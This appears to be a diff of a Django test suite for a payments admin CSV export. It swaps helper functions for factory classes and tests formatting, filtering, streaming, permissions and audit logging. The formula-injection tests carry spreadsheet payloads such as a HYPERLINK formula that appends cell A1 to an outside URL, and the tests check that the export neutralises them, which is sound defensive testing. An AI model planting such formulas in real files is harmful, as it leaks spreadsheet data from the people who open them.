@@ -12,11 +12,11 @@ from django.urls import reverse
 from office.payments import export
 from office.payments.search import Search
 from office.search.models import FoundPayment
-from payments.domain.states import Mode, OperationKind, OperationState, PaymentState
+from payments.domain.states import Mode, OperationKind
 from payments.models import Event, Payment
 from tests.benchmarks.plans import recorded
 from tests.office.pages.conftest import LIST, Staff
-from tests.support.factories import make_merchant, make_operation, make_payment
+from tests.support.factories import MerchantFactory, OperationFactory, PaymentFactory
 from tests.support.searchable import make_searchable
 
 EXPORT = "admin:payments_payment_export"
@@ -47,17 +47,17 @@ def orders(staff: Staff, **asked: Any) -> list[str]:
 class TestTheFile:
     def test_has_a_line_of_headings_and_one_for_each_payment_newest_first(self, accountant: Staff) -> None:
         for day in (2, 3, 1):
-            make_payment(order_id=f"day-{day}", created_at=datetime(2026, 11, day, tzinfo=UTC))
+            PaymentFactory(order_id=f"day-{day}", created_at=datetime(2026, 11, day, tzinfo=UTC))
         assert orders(accountant) == ["day-3", "day-2", "day-1"]
 
     def test_has_amounts_as_numbers_and_times_in_utc(self, accountant: Staff) -> None:
-        payment = make_payment(
-            PaymentState.CAPTURED,
+        payment = PaymentFactory(
+            captured=True,
             amount_minor=123456,
             card_last4="0042",
             created_at=datetime(2026, 11, 21, 9, 30, tzinfo=UTC),
         )
-        make_operation(payment, OperationKind.REFUND)
+        OperationFactory(payment=payment, kind=OperationKind.REFUND)
         (row,) = exported(accountant)
         assert row["payment"] == payment.public_id
         assert (row["amount"], row["amount (minor units)"], row["currency"]) == ("1234.56", "123456", "USD")
@@ -69,8 +69,8 @@ class TestTheFile:
     @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
     def test_has_no_formulas(self, accountant: Staff, begin: str) -> None:
         text = f'{begin}HYPERLINK("https://example.org?"&A1)'
-        merchant = make_merchant("formula", name=text)
-        make_payment(order_id=text, customer_id=text, merchant=merchant)
+        merchant = MerchantFactory(slug="formula", name=text)
+        PaymentFactory(order_id=text, customer_id=text, merchant=merchant)
         (row,) = exported(accountant)
         assert [row[name] for name in ("order", "customer", "merchant")] == [f"'{text}"] * 3
 
@@ -78,7 +78,7 @@ class TestTheFile:
     def test_has_no_formula_where_a_spreadsheet_may_begin_a_new_cell(
         self, accountant: Staff, separator: str
     ) -> None:
-        make_payment(order_id=f"x{separator}=HYPERLINK(1)", customer_id="a, -b; c")
+        PaymentFactory(order_id=f"x{separator}=HYPERLINK(1)", customer_id="a, -b; c")
         (row,) = exported(accountant)
         assert f"{separator}=" not in row["order"]
         assert row["order"].replace("'", "") == f"x{separator}=HYPERLINK(1)"
@@ -103,23 +103,23 @@ class TestTheFile:
         ],
     )
     def test_has_ids_that_a_spreadsheet_leaves_as_they_are(self, accountant: Staff, text: str) -> None:
-        make_payment(order_id=text, customer_id=text)
+        PaymentFactory(order_id=text, customer_id=text)
         (row,) = exported(accountant)
         assert (row["order"], row["customer"]) == (f"'{text}", f"'{text}")
 
     @pytest.mark.parametrize("text", ["order-1", "A0012", "march", "trueblue", "c-19", "2026-x", "1e10x"])
     def test_has_other_ids_as_they_are(self, accountant: Staff, text: str) -> None:
-        make_payment(order_id=text)
+        PaymentFactory(order_id=text)
         (row,) = exported(accountant)
         assert row["order"] == text
 
     def test_keeps_what_has_a_comma_a_quote_or_a_foreign_letter(self, accountant: Staff) -> None:
-        make_payment(order_id='a,"b"\nc', customer_id="Jürgen")
+        PaymentFactory(order_id='a,"b"\nc', customer_id="Jürgen")
         (row,) = exported(accountant)
         assert (row["order"], row["customer"]) == ('a,"b"\nc', "Jürgen")
 
     def test_has_no_email_description_or_metadata(self, accountant: Staff) -> None:
-        make_payment(customer_email="kim@example.org", description="shoes", metadata={"size": "44"})
+        PaymentFactory(customer_email="kim@example.org", description="shoes", metadata={"size": "44"})
         assert not {"kim@example.org", "shoes", "44"} & set(exported(accountant)[0].values())
 
     def test_is_a_download_that_nobody_stores(self, accountant: Staff) -> None:
@@ -131,15 +131,15 @@ class TestTheFile:
 
 class TestWhatIsExported:
     def test_is_what_the_search_and_the_filters_find(self, accountant: Staff) -> None:
-        other = make_merchant("other", name="Other")
-        make_payment(PaymentState.CAPTURED, order_id="ours", customer_id="kim")
-        make_payment(PaymentState.CAPTURED, order_id="a-test", customer_id="kim", mode=Mode.TEST)
-        make_payment(PaymentState.DECLINED, order_id="declined", customer_id="kim")
-        make_payment(PaymentState.CAPTURED, order_id="theirs", customer_id="joe", merchant=other)
-        unclear = make_payment(
-            PaymentState.AUTHORIZED, order_id="unclear", created_at=datetime(2020, 1, 1, tzinfo=UTC)
+        other = MerchantFactory(slug="other", name="Other")
+        PaymentFactory(captured=True, order_id="ours", customer_id="kim")
+        PaymentFactory(captured=True, order_id="a-test", customer_id="kim", mode=Mode.TEST)
+        PaymentFactory(declined=True, order_id="declined", customer_id="kim")
+        PaymentFactory(captured=True, order_id="theirs", customer_id="joe", merchant=other)
+        unclear = PaymentFactory(
+            authorized=True, order_id="unclear", created_at=datetime(2020, 1, 1, tzinfo=UTC)
         )
-        make_operation(unclear, OperationKind.CAPTURE, OperationState.NEEDS_REVIEW)
+        OperationFactory(payment=unclear, kind=OperationKind.CAPTURE, needs_review=True)
         assert orders(accountant, q="kim", mode="all") == ["declined", "a-test", "ours"]
         assert orders(accountant, q="kim", state="CAPTURED") == ["ours"]
         assert orders(accountant, q="kim", state="CAPTURED", mode="live") == ["ours"]
@@ -148,7 +148,7 @@ class TestWhatIsExported:
         assert orders(accountant, created_to="2020-12-31") == ["unclear"]
 
     def test_is_of_the_same_days_as_the_list(self, accountant: Staff) -> None:
-        make_payment(order_id="late", created_at=datetime(2026, 11, 21, 23, 30, tzinfo=UTC))
+        PaymentFactory(order_id="late", created_at=datetime(2026, 11, 21, 23, 30, tzinfo=UTC))
         day = {"created_from": "2026-11-22", "created_to": "2026-11-22"}
         assert orders(accountant, **day) == accountant.found(**day) == []
         berlin = day | {"zone": "Europe/Berlin"}
@@ -157,7 +157,7 @@ class TestWhatIsExported:
 
     @pytest.mark.parametrize("asked", [{"q": "lost"}, {"state": "FAILED"}])
     def test_is_nothing_where_nothing_matches(self, accountant: Staff, asked: dict[str, str]) -> None:
-        make_payment()
+        PaymentFactory()
         assert exported(accountant, **asked) == []
 
     @pytest.mark.parametrize(
@@ -168,7 +168,7 @@ class TestWhatIsExported:
         ],
     )
     def test_is_no_file_where_a_filter_cannot_be(self, accountant: Staff, asked: dict[str, str]) -> None:
-        make_payment()
+        PaymentFactory()
         response = accountant.client.post(reverse(EXPORT), WHY, query_params=asked)
         assert "Nothing was exported." in accountant.read(response["Location"])
         assert not Event.objects.exists()
@@ -179,10 +179,10 @@ class TestWhatIsExported:
         """Whether ids or words were meant is decided once: else a last batch of ids would end in words."""
         monkeypatch.setattr(export, "BATCH", 2)
         for number in range(4):
-            make_payment(order_id=f"by-words-{number}", description="blue mugs")
+            PaymentFactory(order_id=f"by-words-{number}", description="blue mugs")
         assert len(orders(accountant, q="blue mugs")) == 4
         for number in range(2):
-            make_payment(order_id=f"by-id-{number}", customer_id="blue")
+            PaymentFactory(order_id=f"by-id-{number}", customer_id="blue")
         assert orders(accountant, q="blue") == ["by-id-1", "by-id-0"]
         assert len(orders(accountant, q="blue", **{"in": "words"})) == 4
 
@@ -193,7 +193,7 @@ class TestWhatIsExported:
         monkeypatch.setattr(export, "BATCH", 3)
         moment = datetime(2026, 11, 21, tzinfo=UTC)
         for number in range(10):
-            make_payment(customer_id="kim", created_at=moment - timedelta(seconds=number // 5))
+            PaymentFactory(customer_id="kim", created_at=moment - timedelta(seconds=number // 5))
         newest_first = list(Payment.objects.order_by("-created_at", "-id").values_list("order_id", flat=True))
         assert orders(accountant) == newest_first
         assert orders(accountant, q="kim") == newest_first
@@ -204,7 +204,7 @@ class TestWhatIsExported:
         monkeypatch.setattr(export, "BATCH", 2)
         monkeypatch.setattr(export, "ROWS_AT_MOST", 4)
         for _ in range(5):
-            make_payment()
+            PaymentFactory()
         rows = exported(accountant)
         assert len(rows) == 5
         assert rows[-1]["payment"].startswith("Incomplete: only the newest 4 payments.")
@@ -215,7 +215,7 @@ class TestStreaming:
     def test_sends_the_first_lines_before_the_last_are_read(self, monkeypatch: pytest.MonkeyPatch) -> None:
         monkeypatch.setattr(export, "BATCH", 2)
         for _ in range(6):
-            make_payment()
+            PaymentFactory()
         make_searchable()
         lines = export.as_csv(FoundPayment.objects.all(), Search(""))
         with recorded() as seen:
@@ -229,7 +229,7 @@ class TestStreaming:
     def test_holds_no_more_than_a_batch(self, monkeypatch: pytest.MonkeyPatch) -> None:
         monkeypatch.setattr(export, "BATCH", 5)
         for _ in range(23):
-            make_payment(customer_id="kim")
+            PaymentFactory(customer_id="kim")
         make_searchable()
         for term in ("", "kim"):
             parts = list(export.as_csv(FoundPayment.objects.all(), Search(term)))
@@ -238,18 +238,18 @@ class TestStreaming:
 
 class TestWhoMay:
     def test_sees_a_button_beside_what_was_found(self, accountant: Staff, support: Staff) -> None:
-        make_payment(customer_id="kim")
+        PaymentFactory(customer_id="kim")
         assert "Export as CSV" in accountant.payments()
         assert "Export as CSV" not in support.payments()
         assert "Export as CSV" not in accountant.payments(q="lost")
 
     def test_sends_along_what_the_list_shows(self, accountant: Staff) -> None:
-        make_payment(PaymentState.CAPTURED, customer_id="kim")
+        PaymentFactory(captured=True, customer_id="kim")
         page = accountant.client.get("/admin/payments/payment/", {"q": "kim", "state": "CAPTURED"})
         assert f'action="{reverse(EXPORT)}?q=kim&amp;state=CAPTURED"' in page.content.decode()
 
     def test_is_nobody_without_the_permission(self, support: Staff) -> None:
-        make_payment()
+        PaymentFactory()
         assert support.client.post(reverse(EXPORT)).status_code == 403
         assert not Event.objects.exists()
 
@@ -259,7 +259,7 @@ class TestWhoMay:
         assert Staff(user).client.post(reverse(EXPORT)).status_code == 403
 
     def test_takes_nothing_by_a_link(self, accountant: Staff) -> None:
-        make_payment()
+        PaymentFactory()
         answer = accountant.client.get(reverse(EXPORT), WHY)
         assert (answer.status_code, answer["Location"]) == (302, reverse(LIST))
         assert not Event.objects.exists()
@@ -267,7 +267,7 @@ class TestWhoMay:
 
 class TestTheLog:
     def test_says_who_took_what_from_where(self, accountant: Staff) -> None:
-        make_payment(customer_id="kim")
+        PaymentFactory(customer_id="kim")
         accountant.client.post(
             reverse(EXPORT),
             WHY,
@@ -289,7 +289,7 @@ class TestTheLog:
         "reason", ["", "  ", "for 4111 1111 1111 1111", "4111,1111,1111,1111", "x" * 501]
     )
     def test_needs_a_reason(self, accountant: Staff, reason: str) -> None:
-        make_payment()
+        PaymentFactory()
         answer = accountant.client.post(
             reverse(EXPORT), {"reason": reason}, query_params={"state": "CAPTURED"}
         )
@@ -318,5 +318,5 @@ class TestTheLog:
         assert not Event.objects.exists()
 
     def test_survives_what_no_database_can_hold(self, accountant: Staff) -> None:
-        make_payment(order_id="lost")
+        PaymentFactory(order_id="lost")
         assert orders(accountant, q="lo\x00st") == ["lost"]
